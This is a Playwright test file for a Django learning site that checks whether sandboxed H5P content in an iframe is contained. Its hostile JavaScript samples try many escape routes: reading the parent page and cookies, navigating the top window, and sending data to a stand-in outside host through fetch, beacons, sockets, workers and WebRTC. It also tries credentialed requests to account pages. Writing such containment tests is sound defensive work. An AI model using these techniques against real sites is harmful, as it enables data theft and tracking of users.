"""Hostile H5P content in real Chromium: whatever it tries, it gets nothing and changes nothing.

Each test has a content type of its own that tries, and says in its frame what it got hold of.
"""

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from assessments.h5p.models import XAPIStatement
from assessments.ledger.models import Evidence
from assessments.models import Attempt, Draft
from courses.models import LessonProgress
from tests.factories.h5p_code import make_hostile, make_quiz

EMAIL = "lone@example.org"


def assert_nothing_changed() -> None:
    counts = [kind.objects.count() for kind in (XAPIStatement, Attempt, Draft, Evidence)]
    assert counts == [0, 0, 0, 0]
    assert not LessonProgress.objects.exclude(completed_at=None).exists()


# Tries each thing by itself, so that one that throws does not hide the next.
TRY = """
const attempt = async (name, work) => {
  try { note(name, String(await work())); } catch (error) { note(name, 'refused'); }
};
"""


def test_it_reads_nothing_of_the_page_around_it(visit, live_site):
    seen = visit(
        make_hostile(
            TRY
            + """
            await attempt('document', () => parent.document.title);
            await attempt('top', () => top.document.body.innerHTML);
            await attempt('address', () => parent.location.href);
            await attempt('frame', () => String(window.frameElement.outerHTML));
            await attempt('storage', () => parent.localStorage.ours);
            await attempt('database', () => new Promise((yes, no) => {
              const open = indexedDB.open('x'); open.onsuccess = () => yes('open'); open.onerror = no;
            }));
            await attempt('caches', () => caches.keys());
            await attempt('workers', () => navigator.serviceWorker.register('x.js'));
            await attempt('channel', () => new Promise((yes) => {
              const channel = new BroadcastChannel('x'); channel.onmessage = () => yes('heard');
              setTimeout(() => yes('refused'), 300);
            }));
            note('own storage', localStorage.getItem('ours'));
            note('own cookies', document.cookie);
            note('referrer', document.referrer);
            note('origin', self.origin);
            """
        )
    ).noted
    assert seen.pop("done")
    assert (seen.pop("own storage"), seen.pop("own cookies"), seen.pop("referrer")) == (None, "", "")
    assert seen.pop("origin") == "null"
    assert set(seen.values()) <= {"refused", "undefined"}, seen
    assert "frame" in seen
    assert seen["document"] == seen["top"] == seen["address"] == seen["storage"] == "refused"


def test_its_document_and_its_messages_hold_no_name_and_no_address_of_the_person(visit):
    there = visit(
        make_hostile(
            """
            const heard = [];
            addEventListener('message', (event) => heard.push(event.data));
            await new Promise((go) => setTimeout(go, 500));
            note('all', document.documentElement.outerHTML + JSON.stringify([heard, H5PIntegration]));
            """
        )
    )
    assert "Uskyldig" in there.noted["all"]
    for personal in ("Lone", "Kjær", EMAIL, "@example"):
        assert personal not in there.noted["all"]


WAYS_OUT = [
    "top.location = away",
    "top.location.replace(away)",
    "parent.location.href = away",
    "window.open(away)",
    "window.open(away, '_top')",
    "link.target = '_top'; link.click()",
    "link.target = '_blank'; link.click()",
    "form.target = '_top'; form.submit()",
    "form.target = '_self'; form.method = 'post'; form.submit()",
    "alert('x')",
    "parent.close()",
]


def test_it_opens_and_leads_nowhere(visit, elsewhere):
    there = visit(
        make_hostile(
            """
            const away = params.away;
            const link = Object.assign(document.createElement('a'), {href: away});
            const form = Object.assign(document.createElement('form'), {action: away});
            document.body.append(link, form);
            """
            + "".join(f"try {{ {way} }} catch (error) {{ note({way!r}, true); }}" for way in WAYS_OUT)
            + "await new Promise((go) => setTimeout(go, 700));",
            away=f"http://{elsewhere.address}/",
        )
    )
    assert len(there.page.context.pages) == 1
    assert "/kurser/" in there.page.url
    expect(there.page.locator("h1")).to_have_text("Døren")
    assert elsewhere.knocks == []
    assert_nothing_changed()


@pytest.mark.parametrize("target", ["http://{elsewhere}/?stolen=1", "{ours}/konto/", "data:text/html,hej"])
def test_when_it_leaves_its_frame_it_is_stopped(visit, live_site, elsewhere, target):
    address = target.format(elsewhere=elsewhere.address, ours=live_site.url)
    content = make_hostile("location = params.away;", away=address)
    page = visit(content, is_waited_for=False).page
    expect(page.locator(".ls-h5p iframe")).to_have_count(0)
    expect(page.locator(".ls-h5p [role=status]")).to_have_text(
        page.locator(".ls-h5p").get_attribute("data-left")
    )
    assert elsewhere.knocks == []
    assert_nothing_changed()


def test_it_reaches_no_other_address(visit, elsewhere):
    seen = visit(
        make_hostile(
            TRY
            + """
            const away = params.away;
            const tag = (name, fields, event = 'load') => new Promise((yes, no) => {
              const made = Object.assign(document.createElement(name), fields);
              made.addEventListener(event, () => yes('loaded')); made.onerror = no;
              setTimeout(no, 1500); document.body.append(made); made.play?.().catch(() => {});
            });
            await attempt('fetch', () => fetch(`http://${away}/?a=1`).then((a) => a.status));
            await attempt('no-cors', () => fetch(`http://${away}/`, {mode: 'no-cors', method: 'POST'}));
            await attempt('xhr', () => new Promise((yes, no) => {
              const ask = new XMLHttpRequest(); ask.open('GET', `http://${away}/`);
              ask.onload = yes; ask.onerror = no; ask.send();
            }));
            await attempt('image', () => tag('img', {src: `http://${away}/a.png`}));
            await attempt('script', () => tag('script', {src: `http://${away}/a.js`}));
            await attempt('style', () => tag('link', {rel: 'stylesheet', href: `http://${away}/a.css`}));
            await attempt('prefetch', () => tag('link', {rel: 'prefetch', href: `http://${away}/a`}));
            await attempt('preload', () => tag('link', {rel: 'preload', as: 'image', href: `http://${away}/a`}));
            await attempt('frame', () => tag('iframe', {src: `http://${away}/`}).then(() => 'refused'));
            await attempt('video', () => tag('video', {src: `http://${away}/a.webm`}, 'loadeddata'));
            await attempt('object', () => tag('object', {data: `http://${away}/a.svg`}));
            await attempt('import', () => import(`http://${away}/a.js`));
            await attempt('background', () => { document.body.style.background = `url(http://${away}/b.png)`;
              return 'refused'; });
            await attempt('font', () => new FontFace('x', `url(http://${away}/x.woff2)`).load());
            await attempt('worker', () => new Promise((yes, no) => {
              const worker = new Worker(URL.createObjectURL(new Blob([`fetch('http://${away}/')`])));
              worker.onerror = no; worker.onmessage = yes; setTimeout(no, 1000);
            }));
            await attempt('socket', () => new Promise((yes, no) => {
              const line = new WebSocket(`ws://${away}/`); line.onopen = yes; line.onerror = no;
            }));
            await attempt('events', () => new Promise((yes, no) => {
              const line = new EventSource(`http://${away}/`); line.onopen = yes; line.onerror = no;
            }));
            await attempt('call', async () => {
              const call = new RTCPeerConnection({iceServers: [{urls: `stun:${away}`}]});
              call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());
              await new Promise((go) => setTimeout(go, 1500));
            });
            await attempt('call from a frame', async () => {
              const inner = document.createElement('iframe'); document.body.append(inner);
              return typeof inner.contentWindow.RTCPeerConnection;
            });
            navigator.sendBeacon(`http://${away}/`, 'x');
            await new Promise((go) => setTimeout(go, 500));
            """,
            away=elsewhere.address,
        )
    ).noted
    assert seen.pop("done")
    assert {name: got for name, got in seen.items() if got != "refused"} == {}
    assert len(seen) == 19
    assert elsewhere.knocks == []


def test_it_reaches_no_page_of_ours(visit, live_site):
    there = visit(
        make_hostile(
            TRY
            + """
            for (const path of params.paths) {
              await attempt(path, () => fetch(path, {credentials: 'include'}).then((a) => a.text()));
              await attempt(`post ${path}`, () => fetch(path, {
                method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}',
              }));
              await attempt(`image ${path}`, () => new Promise((yes, no) => {
                const image = new Image(); image.onload = yes; image.onerror = no; image.src = path;
              }));
            }
            """,
            paths=[
                "/konto/",
                "/cms/",
                "/min-laering/",
                "/static/css/core.css",
                "/min-laering/lektion/1/h5p/",
            ],
        )
    )
    assert there.noted.pop("done")
    assert len(there.noted) == 15
    assert set(there.noted.values()) == {"refused"}
    assert_nothing_changed()


def test_a_file_opened_by_itself_does_nothing(visit, live_site):
    there = visit(make_quiz(), is_waited_for=False)
    token = there.page.locator("[data-h5p]").get_attribute("data-token")
    address = live_site.url + reverse("lesson_h5p:asset", args=[token, "H5P.TestQuiz-1.0/main.js"])
    shown = there.page.goto(address)
    assert "sandbox" in shown.headers["content-security-policy"]
    # The frame's own document, opened as a page: still an origin of its own.
    there.page.goto(live_site.url + reverse("lesson_h5p:frame", args=[token]))
    assert there.page.evaluate("self.origin") == "null"
